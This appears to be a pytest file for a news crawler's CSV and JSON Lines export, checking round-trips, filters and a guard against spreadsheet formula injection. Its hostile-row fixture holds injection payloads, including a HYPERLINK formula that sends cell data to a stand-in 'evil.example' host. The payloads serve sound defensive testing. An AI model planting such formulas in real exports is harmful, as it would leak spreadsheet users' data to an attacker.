"""Exports (crawler/export.py): CSV that the csv module and spreadsheets read back, with the
formula-injection guard, and JSON Lines, from a replica crawl and from hostile rows."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlite_utils
from click.testing import CliRunner, Result

from crawler.cli import cli
from crawler.db import connect
from crawler.db.queries import parse_when
from crawler.outputs.export import COLUMNS, csv_cell, export
from tests.helpers import crawl_seed_replicas


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A config whose database holds one crawl of both replica sites."""
    return crawl_seed_replicas(tmp_path_factory.mktemp("export"))


def newsmon(config: Path, *args: str) -> Result:
    result = CliRunner().invoke(cli, ["-c", str(config), *args])
    assert result.exit_code == 0, result.output
    return result


def read_csv(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def stored(config: Path) -> dict[str, dict]:
    """Every stored story by URL, with its watches, read straight from the database."""
    db = sqlite_utils.Database(config.parent / "newsmon.db")
    try:
        rows = {r["url"]: r for r in db.query("SELECT * FROM articles")}
        for url, row in rows.items():
            row["watches"] = [w for (w,) in db.execute(
                "SELECT watch FROM matches m JOIN articles a ON a.id = m.article_id "
                "WHERE a.url = ? ORDER BY watch", [url])]  # fmt: skip
        return rows
    finally:
        db.close()


def test_csv_of_every_story_reads_back(crawled: Path) -> None:
    rows = read_csv(newsmon(crawled, "export", "--format", "csv", "--all").stdout)
    truth = stored(crawled)
    assert sorted(r["url"] for r in rows) == sorted(truth)
    for row in rows:
        story = truth[row["url"]]
        assert row["text"] == story["text"] and "\n" in row["text"], "line breaks survive"
        assert row["title"] == story["title"]
        assert row["watches"] == ",".join(story["watches"])
        assert row["id"] == str(story["id"]) and row["version"] == "1"
        assert row["published"] == story["published"] and row["duplicate_of"] == ""
        assert row["author"] == (story["author"] or "")
    times = [parse_when(r["published"]) for r in rows]
    assert times == sorted(times, reverse=True), "newest first"


def test_filters_match_the_articles_command(crawled: Path) -> None:
    for args in (
        ["--watch", "takaichi"],
        ["--site", "eqmint"],
        [],
        ["--since", "2025-10-29", "--all"],
        ["--site", "caliber", "--watch", "rare-earths"],
    ):
        exported = read_csv(newsmon(crawled, "export", *args).stdout)
        listed = json.loads(newsmon(crawled, "articles", "--json", *args).stdout)
        assert [r["url"] for r in exported] == [s["url"] for s in listed], args
    assert exported and all("rare-earths" in r["watches"].split(",") for r in exported)


def test_jsonl_lines_parse_with_the_story_keys(crawled: Path) -> None:
    text = newsmon(crawled, "export", "--format", "jsonl", "--all").stdout
    lines = text.splitlines()
    objects = [json.loads(line) for line in lines]
    truth = stored(crawled)
    assert len(objects) == len(truth)
    for obj in objects:
        assert tuple(obj) == COLUMNS
        story = truth[obj["url"]]
        assert obj["watches"] == story["watches"] and isinstance(obj["watches"], list)
        assert obj["text"] == story["text"] and obj["id"] == story["id"]


def test_output_file_and_count(crawled: Path, tmp_path: Path) -> None:
    out = tmp_path / "takaichi.csv"
    result = newsmon(crawled, "export", "--watch", "takaichi", "--bom", "-o", str(out))
    rows = read_csv(out.read_text(encoding="utf-8-sig"))
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    assert f"{len(rows)} stories written to {out}" in result.stderr
    assert rows and all("takaichi" in r["watches"] for r in rows)


def test_bad_since_is_a_user_error(crawled: Path) -> None:
    result = CliRunner().invoke(cli, ["-c", str(crawled), "export", "--since", "last week"])
    assert result.exit_code == 2 and "--since" in result.output


@pytest.fixture
def hostile_db(tmp_path: Path) -> Iterator[sqlite_utils.Database]:
    """Stories whose fields a spreadsheet would run as formulas, or that break lines."""
    database = connect(tmp_path / "hostile.db")
    cells = [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 555", "-2+3 is\nnot = 1"),
        ("@SUM(A1:A9)", "\tTabbed", "\rcarriage"),
        ("Plain title, with comma", None, 'Said "hi"\u2028then\x85left\x00.'),
    ]
    for n, (title, author, text) in enumerate(cells, start=1):
        database["articles"].insert({
            "url": f"https://news.example.org/{n}", "site": "example", "title": title,
            "author": author, "text": text, "content_hash": str(n),
            "published": f"2025-11-0{n}T12:00:00+02:00",
            "first_seen": "2025-11-05T10:30:00+00:00", "last_seen": "2025-11-05T10:30:00+00:00",
        })  # fmt: skip
        database["matches"].insert(
            {
                "article_id": n,
                "watch": "=cmd",
                "snippet": "x",
                "matched_at": "2025-11-05T10:30:00+00:00",
            }
        )
    yield database
    database.close()


def test_csv_guards_against_formula_injection(hostile_db: sqlite_utils.Database) -> None:
    out = io.StringIO(newline="")
    assert export(hostile_db, out, "csv") == 3
    rows = read_csv(out.getvalue())
    by_url = {r["url"]: r for r in rows}
    assert by_url["https://news.example.org/1"]["title"].startswith("'=HYPERLINK(")
    assert by_url["https://news.example.org/1"]["author"] == "'+1 555"
    assert by_url["https://news.example.org/1"]["text"] == "'-2+3 is\nnot = 1"
    assert by_url["https://news.example.org/2"]["title"] == "'@SUM(A1:A9)"
    assert by_url["https://news.example.org/2"]["author"] == "'\tTabbed"
    assert by_url["https://news.example.org/2"]["text"] == "'\rcarriage"
    third = by_url["https://news.example.org/3"]
    assert third["title"] == "Plain title, with comma" and third["author"] == ""
    assert third["text"] == 'Said "hi"\u2028then\x85left.', "NUL dropped, the rest kept"
    assert {r["watches"] for r in rows} == {"'=cmd"}
    assert csv_cell(-5) == -5 and csv_cell(None) == ""


def test_jsonl_is_unaltered_and_one_line_per_story(hostile_db: sqlite_utils.Database) -> None:
    out = io.StringIO()
    assert export(hostile_db, out, "jsonl") == 3
    text = out.getvalue()
    assert len(text.splitlines()) == 3, "U+2028 and NEL inside text are escaped"
    objects = [json.loads(line) for line in text.splitlines()]
    assert [o["title"] for o in objects][0] == "Plain title, with comma", "newest first"
    assert objects[0]["text"] == 'Said "hi"\u2028then\x85left\x00.'
    assert objects[2]["title"].startswith("=HYPERLINK(") and objects[2]["watches"] == ["=cmd"]
    assert objects[0]["author"] is None and objects[0]["duplicate_of"] is None


def test_unknown_format_is_refused(hostile_db: sqlite_utils.Database) -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        export(hostile_db, io.StringIO(), "xlsx")
